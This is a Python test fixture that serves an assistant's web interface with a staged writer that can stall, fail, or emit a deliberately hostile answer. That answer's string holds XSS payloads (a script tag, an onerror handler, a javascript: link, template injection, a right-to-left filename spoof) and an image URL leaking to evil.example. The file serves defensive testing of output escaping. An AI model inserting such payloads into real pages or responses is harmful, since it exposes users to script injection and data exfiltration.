"""Serves the page to the tests, with a writer that can be told to dawdle, to fail, or to say something evil."""

from __future__ import annotations

import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

from assistant import Assistant, Settings
from assistant.answering.writers.extractive import ExtractiveWriter
from assistant.errors import OllamaUnreachableError
from assistant.types import Delta, Draft, GenerationInfo, Plan, Quotation
from assistant.web.serve import serving

EVIL = (
    "<script>window.evil=1</script><img src=x onerror='window.evil=1'>![x](http://evil.example/leak?q=1) "
    "[click](javascript:window.evil=1) `${window.evil=1}` {{value}} $$x$$ \u202egnp.exe"
)
"""What a model may come up with."""


class Staged:
    """``ports.Writer``: the extractive one, unless the question says how it is to behave."""

    name = "staged"

    def __init__(self) -> None:
        self._inner = ExtractiveWriter()

    def write(self, plan: Plan) -> Iterator[Draft | Quotation | Delta | GenerationInfo]:
        """``slowly``: with pauses; ``evil``: a model's own words; ``fail``, ``break``: an error, and a bug."""
        question = plan.question.lower()
        if "fail" in question:
            raise OllamaUnreachableError("No server answers for '/srv/someone/secret/model'. `ollama serve`")
        if "break" in question:
            raise RuntimeError("a bug in /srv/someone/secret/code.py")
        if "evil" in question:
            first = plan.quotations[0].best
            yield Draft(text=f"{first.text} [1] ")
            yield Draft(text=f"The moon is made of green cheese, says {EVIL}.")
            return
        for draft in self._inner.write(plan):
            for _ in range(10 if "slowly" in question else 0):
                time.sleep(0.1)
                yield Delta(text="", verified=False, kind="waiting")
            yield draft


def main(index_dir: str, conversations: str, host: str = "127.0.0.1", password: str = "", *documents: str) -> None:
    """Serve until killed; the address is the one line printed."""
    settings = Settings.model_validate({"index_dir": Path(index_dir), "conversations": conversations})
    assistant = Assistant.open(settings, writer=Staged())
    for folder in documents:
        assistant.index(folder)
    with serving(assistant, host, password=password) as address:
        print(address, flush=True)  # noqa: T201 - how the parent process learns the port
        threading.Event().wait()


if __name__ == "__main__":
    main(*sys.argv[1:])
